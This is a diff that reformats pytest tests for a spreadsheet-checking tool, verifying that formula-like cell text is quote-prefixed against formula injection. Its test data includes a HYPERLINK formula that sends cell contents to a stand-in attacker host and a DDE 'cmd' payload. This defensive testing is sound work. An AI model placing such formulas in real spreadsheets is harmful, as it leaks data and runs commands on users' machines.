@@ -29,8 +29,17 @@ from swtool.model import standard as std
 from swtool.write.annotate import FORMULA_START
 
 TODAY = "2026-10-01"
-FORMULA_LIKE = ["=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=2+2",
-                '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")', "=cmd|' /C calc'!A0"]
+FORMULA_LIKE = [
+    "=1+1",
+    "+A1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=2+2",
+    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")',
+    "=cmd|' /C calc'!A0",
+]
 EXTRA_HEADER = "=SUM(A1:A9)"
 
 
@@ -43,11 +52,19 @@ def hostile(tmp_path_factory) -> Path:
     """Formula-like text as Output (each an S004), Employer, Notes and Evidence reference, a narrative
     answer and an extra column's header (S008); the workbook also links to a file on a share."""
     folder = tmp_path_factory.mktemp("safety")
-    claims = [claim(**{"Claim ref": f"CL-{i:04d}", "Output": text, "Employer": text, "Notes": text,
-                       "Evidence reference": text}) for i, text in enumerate(FORMULA_LIKE, start=1)]
-    base = write_return(folder, "plain.xlsx", claims=claims,
-                        narrative_values={"Lessons learnt": "=1+1", "Safeguarding": "@SUM(A1)"},
-                        headers={"Claims": [*std.CLAIMS.headers, EXTRA_HEADER]})
+    claims = [
+        claim(
+            **{"Claim ref": f"CL-{i:04d}", "Output": text, "Employer": text, "Notes": text, "Evidence reference": text}
+        )
+        for i, text in enumerate(FORMULA_LIKE, start=1)
+    ]
+    base = write_return(
+        folder,
+        "plain.xlsx",
+        claims=claims,
+        narrative_values={"Lessons learnt": "=1+1", "Safeguarding": "@SUM(A1)"},
+        headers={"Claims": [*std.CLAIMS.headers, EXTRA_HEADER]},
+    )
     wb = openpyxl.load_workbook(base)
     ws = wb["Claims"]
     for r in range(2, ws.max_row + 1):  # the extra column has formula-like data too
@@ -73,8 +90,9 @@ def outputs(hostile, tmp_path_factory) -> dict:
     res = {}
     for fmt, name in (("json", "report.json"), ("junit", "report.xml"), ("text", "report.txt")):
         extra = ["--annotate", str(out / "copy.annotated.xlsx"), "--receipt"] if fmt == "json" else []
-        r = runner.invoke(cli, ["check", str(hostile), "--format", fmt, "-o", str(out / name), "--today", TODAY,
-                                *extra])
+        r = runner.invoke(
+            cli, ["check", str(hostile), "--format", fmt, "-o", str(out / name), "--today", TODAY, *extra]
+        )
         assert r.exit_code == 1, r.output  # the return has errors; the run itself succeeded
         assert "Traceback" not in r.output
         res[fmt] = out / name
@@ -119,8 +137,12 @@ def test_text_swtool_writes_that_starts_like_a_formula_is_quote_prefixed(outputs
         assert c.data_type == "s"
         if c.value.startswith(FORMULA_START):
             assert c.quotePrefix, c.value
-    comments = [c.comment.text for row in openpyxl.load_workbook(outputs["copy"])["Claims"].iter_rows()
-                for c in row if c.comment is not None]
+    comments = [
+        c.comment.text
+        for row in openpyxl.load_workbook(outputs["copy"])["Claims"].iter_rows()
+        for c in row
+        if c.comment is not None
+    ]
     assert any("'=1+1'" in t for t in comments)
 
 
